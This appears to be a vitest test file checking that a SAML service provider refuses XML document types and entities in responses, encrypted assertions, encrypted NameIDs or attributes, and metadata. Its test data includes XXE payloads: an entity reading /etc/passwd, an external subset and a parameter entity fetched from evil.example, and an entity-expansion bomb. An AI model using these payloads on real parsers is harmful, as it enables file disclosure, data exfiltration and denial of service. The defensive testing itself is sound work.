/** Document types and entities: external entities, entity bombs, and the same inside what was encrypted. */
import { describe, expect, it } from 'vitest';
import { decodeXml, encodeXml, mint, ownKey, serviceProvider, verdict } from './scene';

const prologs = [
  ['a bare document type', '<!DOCTYPE samlp:Response>'],
  ['one in small letters', '<!doctype samlp:Response>'],
  ['an external entity', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
  ['an external subset', '<!DOCTYPE r SYSTEM "https://evil.example/x.dtd">'],
  ['a parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]>'],
  ['an entity bomb', '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'],
] as const;

describe.each(prologs)('%s', (_which, prolog) => {
  it('is refused in front of a response', async () => {
    expect(await verdict(mint({ prolog }))).toBe('message_has_doctype');
  });

  it('is refused inside an encrypted assertion', async () => {
    const encryption = { certificate: ownKey.certificate, prolog };
    expect(await verdict(mint({ encryption }))).toBe('decryption_failed');
    expect(await verdict(mint({ encryption, sign: 'response' }))).toBe('decryption_failed');
  });

  it('is refused inside an encrypted NameID or attribute', async () => {
    const encryption = { certificate: ownKey.certificate, prolog };
    expect(await verdict(mint({ encryption, encrypt: ['nameId'] }))).toBe('decryption_failed');
    expect(await verdict(mint({ encryption, encrypt: ['attributes'] }))).toBe('decryption_failed');
  });

  it('is refused in front of metadata', async () => {
    expect(await serviceProvider().parseMetadata(`${prolog}<x/>`)).toMatchObject({
      error: { reason: 'message_has_doctype' },
    });
  });
});

it('refuses an entity that nobody declared', async () => {
  const xml = decodeXml(await mint()).replace('>ada@acme.example<', '>&ada;<');
  expect(await verdict(encodeXml(xml))).toBe('message_not_xml');
});
